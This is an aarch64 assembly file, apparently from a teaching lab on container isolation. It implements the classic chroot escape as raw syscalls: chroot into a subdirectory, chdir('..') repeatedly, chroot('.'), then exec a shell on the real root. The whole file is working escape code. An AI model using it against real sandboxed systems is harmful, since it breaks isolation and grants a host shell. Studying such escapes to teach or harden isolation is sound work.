// escape_chroot for aarch64 Linux: the deck's chroot escape, as machine code.
// Assembled by scripts/escape-elf.sh into the bytes in
// src/rootfs/escape_code.rs; nsdojo wraps them in an ELF header.
// Position independent (every address comes from `adr`, pc-relative): the
// ELF writer may load it anywhere. No libc, no stack frame: the kernel's
// initial stack is
//   [sp] argc, [sp+8] argv[0..argc], NULL, envp[..], NULL
// Syscall number in x8, arguments in x0.., result in x0; x19 and x20 are
// left alone by the kernel. aarch64 has no mkdir, only mkdirat.

        .text
        .globl  _start
_start:
        // envp = sp + 8 * (argc + 2): past argc, the argv pointers and their NULL.
        ldr     x19, [sp]
        add     x20, sp, #16
        add     x20, x20, x19, lsl #3

        // mkdirat(AT_FDCWD, ".out", 0755). Its result does not matter: after a
        // first run it already exists (EEXIST), and chroot says if it is unusable.
        mov     x0, #-100
        adr     x1, out
        mov     x2, #0755
        mov     x8, #34
        svc     #0

        // chroot(".out"): the root moves below us, the working directory does not.
        adr     x0, out
        mov     x8, #51
        svc     #0
        cbnz    x0, fail_out

        // chdir("..") 64 times. The cwd is now outside the root, so no ".."
        // is clamped at it; at the real / ".." is / itself.
        mov     x19, #64
1:      adr     x0, dotdot
        mov     x8, #49
        svc     #0
        subs    x19, x19, #1
        b.ne    1b

        // chroot("."): the real / becomes the root again.
        adr     x0, dot
        mov     x8, #51
        svc     #0
        cbnz    x0, fail_dot

        // chdir("/"), so the shell starts where its root is.
        adr     x0, slash
        mov     x8, #49
        svc     #0

        // execve("/bin/sh", ["/bin/sh", NULL], envp). argv[0] is the program's
        // name: the deck's execl("/bin/sh", "-i", NULL) makes "-i" argv[0]
        // (a login-shell name to some shells) and passes no option at all.
        adr     x0, sh
        stp     x0, xzr, [sp, #-16]!
        mov     x1, sp
        mov     x2, x20
        mov     x8, #221
        svc     #0

        // execve returned: there is no /bin/sh on the host side.
        adr     x1, msg_exec
        mov     x2, #(msg_exec_end - msg_exec)
        mov     x19, #127
        b       die

fail_out:
        adr     x1, msg_out
        mov     x2, #(msg_out_end - msg_out)
        mov     x19, #1
        b       die

fail_dot:
        adr     x1, msg_dot
        mov     x2, #(msg_dot_end - msg_dot)
        mov     x19, #1

        // write(2, x1, x2), then exit(x19).
die:    mov     x0, #2
        mov     x8, #64
        svc     #0
        mov     x0, x19
        mov     x8, #93
        svc     #0

out:    .asciz  ".out"
dotdot: .asciz  ".."
dot:    .asciz  "."
slash:  .asciz  "/"
sh:     .asciz  "/bin/sh"
msg_out:
        .ascii  "escape_chroot: chroot(.out) failed (root? CAP_SYS_CHROOT?)\n"
msg_out_end:
msg_dot:
        .ascii  "escape_chroot: chroot(.) failed (root? CAP_SYS_CHROOT?)\n"
msg_dot_end:
msg_exec:
        .ascii  "escape_chroot: cannot run /bin/sh\n"
msg_exec_end:
